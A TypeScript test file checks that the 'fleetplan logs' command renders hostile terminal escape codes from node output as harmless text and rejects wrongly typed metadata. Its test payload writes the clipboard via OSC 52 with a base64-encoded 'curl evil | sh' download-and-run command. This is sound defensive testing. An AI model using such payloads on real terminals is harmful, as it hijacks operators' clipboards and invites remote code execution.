// Attacks on `fleetplan logs` (shared/output-seal.ts, coordinator/cli/logs.ts) by a node that holds
// its own identity key: its record is genuine, but it goes through Consul KV (the fake, with the
// generated ACL policies) to the operator's terminal. Escape codes are shown, never obeyed; a field
// of the wrong type is refused as malformed instead of crashing the command.
import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { createFeed } from "../../agent/store/select.ts";
import { logsCommand } from "../../coordinator/cli/logs.ts";
import type { CoordinatorConfig } from "../../coordinator/config.ts";
import type { CoordinatorDb } from "../../coordinator/db.ts";
import { coordinatorConsulPolicy, hostConsulPolicy } from "../../coordinator/store/consul-acl.ts";
import { createConsulStore } from "../../coordinator/store/consul-store.ts";
import { FleetplanError } from "../../shared/errors.ts";
import { loadAdminKey, writeNewKey } from "../../shared/key-files.ts";
import { formatNodePublic, generateNodeKey } from "../../shared/keys.ts";
import { silentLogger } from "../../shared/log.ts";
import { sealOutput } from "../../shared/output-seal.ts";
import { sodiumReady } from "../../shared/sodium.ts";
import type { AdminKeyPair, NodeKeyPair } from "../../shared/types.ts";
import { consulTestScope, storeConfigFor } from "../fakes/consul.ts";

const HOST = "host-a";
// OSC 52 writes the operator's clipboard, CSI 2J clears the screen, \r overwrites the line, 0x9b is a one-byte CSI.
const EVIL = "ok\n\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\rall good\u009b8m\u202e\n";

describe("attacks on fleetplan logs", { timeout: 30_000 }, () => {
  const scope = consulTestScope();
  let dir: string;
  let adminPath: string;
  let admin: AdminKeyPair;
  let node: NodeKeyPair;
  before(async () => {
    await sodiumReady();
    dir = mkdtempSync(join(tmpdir(), "fleetplan-attacks-output-"));
    adminPath = writeNewKey(dir, "admin").privatePath;
    admin = loadAdminKey(adminPath);
    node = generateNodeKey();
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  // The node puts `record` under its own key; the coordinator runs `logs HOST` against the same fake.
  const logsOf = async (record: Uint8Array): Promise<string> => {
    const fake = await scope.start({ policies: { coord: coordinatorConsulPolicy(), a: hostConsulPolicy(HOST) } });
    const feed = scope.defer(createFeed(storeConfigFor(fake, "a"), silentLogger));
    await feed.putOutput!(HOST, record);
    const config = { db: "", store: storeConfigFor(fake, "coord"), adminKeys: [adminPath], json: false, sources: [] } as CoordinatorConfig;
    const db = {
      servers: () => [{ host: HOST, nodeKey: formatNodePublic(node.publicKey, node.identity.publicKey) }],
    } as unknown as CoordinatorDb;
    let out = "";
    const io = { stdout: (t: string) => void (out += t), stderr: (t: string) => void (out += t) };
    const open = async () => createConsulStore(config.store, { logger: silentLogger, attempts: 1 });
    await logsCommand([HOST], {}, config, db, silentLogger, io, open);
    return out;
  };
  const meta = { host: HOST, id: 7, at: Date.now(), failure_reason: "step_failed", exit_code: 1, failed_step: 0 };

  it("escape codes in the output and the failure reason reach the terminal as text", async () => {
    const record = sealOutput(
      { ...meta, failure_reason: "\x1b[8mhidden" },
      new TextEncoder().encode(EVIL),
      [admin.publicKey],
      node.identity.privateKey,
    );
    const out = await logsOf(record);
    assert.doesNotMatch(out, /[\x1b\x07\r\u009b\u202e]/, JSON.stringify(out));
    assert.match(out, /\\u\{1b\}\[8mhidden at step 1/);
    assert.match(out, /^ok\n\\u\{1b\}\]52;c;Y3VybCBldmlsIHwgc2g=\\u\{7\}\\u\{1b\}\[2J\\u\{d\}all good\\u\{9b\}8m\\u\{202e\}\n$/m);
  });

  it("a time, reason, exit code or step of the wrong type is malformed, not a crash", async () => {
    for (const bad of [{ at: 1e300 }, { failure_reason: { x: 1 } }, { exit_code: "0" }, { failed_step: -0.5 }]) {
      const record = sealOutput(
        { ...meta, ...bad } as typeof meta,
        new TextEncoder().encode("x"),
        [admin.publicKey],
        node.identity.privateKey,
      );
      await assert.rejects(logsOf(record), (e: unknown) => e instanceof FleetplanError && e.reason === "malformed", JSON.stringify(bad));
    }
  });
});
